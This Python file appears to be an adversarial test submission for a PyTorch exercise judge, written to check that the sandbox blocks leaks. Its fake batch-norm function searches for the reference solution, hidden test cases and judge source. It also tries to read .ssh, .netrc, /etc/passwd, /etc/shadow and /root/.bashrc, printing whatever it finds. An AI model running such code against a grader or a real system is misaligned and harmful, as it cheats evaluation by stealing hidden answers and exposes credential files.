"""Searches every folder for the jury solution, the hidden cases and the judge, and prints what it finds.

Expected: wrong answer, run-time error
Representative: yes
"""

import glob
import inspect
import os
import sys
from pathlib import Path

done = False


def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=0.1, training=True):
    global done
    if not done:
        done = True
        frame, judges = sys._getframe(1), set()
        while frame is not None:
            root, ours, _ = frame.f_code.co_filename.partition("/torch_judge/")
            if ours:
                judges.add(root)
            frame = frame.f_back
        homes = ["/root", "/home", "/content", "/workspaces", "/tmp", os.getcwd(), *judges]
        for folder in homes:
            for pattern in ("*", "problems/*/*/*.py", "torch_judge/**/*.py", ".ssh/*", ".netrc"):
                for path in glob.glob(os.path.join(folder or ".", pattern), recursive=True)[:50]:
                    if "batchnorm" in path or "torch_judge" in path or folder in ("/root", "/home"):
                        print("LEAKED: listed", path)
        bank = ("problems", "torch_judge/problems")
        package = ("solution.py", "cases.py", "submissions/mistakes.toml")
        texts = [f"{each}/normalisation/batchnorm/{name}" for each in bank for name in package]
        rooms = ("authoring", "execution", "execution/checker", "execution/forkserver", "execution/protocol")
        rooms += ("execution/worker", "judging", "learning", "model", "sandbox", "ui", "verification")
        names = (
            "__init__",
            "serve",
            "comparison",
            "judge",
            "program",
            "report",
            "enter",
            "verify",
            "suite",
            "frames",
        )
        texts += [f"torch_judge/{room}/{name}.py" for room in rooms for name in names]
        secrets = [os.path.join(each, path) for each in judges for path in texts]
        secrets += [
            path for each in judges for path in Path(each, "torch_judge").rglob("*") if path.is_file()
        ]
        refused = set()
        for path in (*secrets, "/etc/passwd", "/etc/shadow", "/root/.bashrc"):
            try:
                print("LEAKED:", path, open(path).read(100))
            except OSError as error:
                refused.add(type(error).__name__)
        print(*refused)
        frame = sys._getframe(1)
        while frame is not None:
            try:
                print("LEAKED: source of", frame.f_code.co_filename, inspect.getsource(frame.f_code)[:60])
            except (OSError, TypeError):
                pass
            frame = frame.f_back
    return x
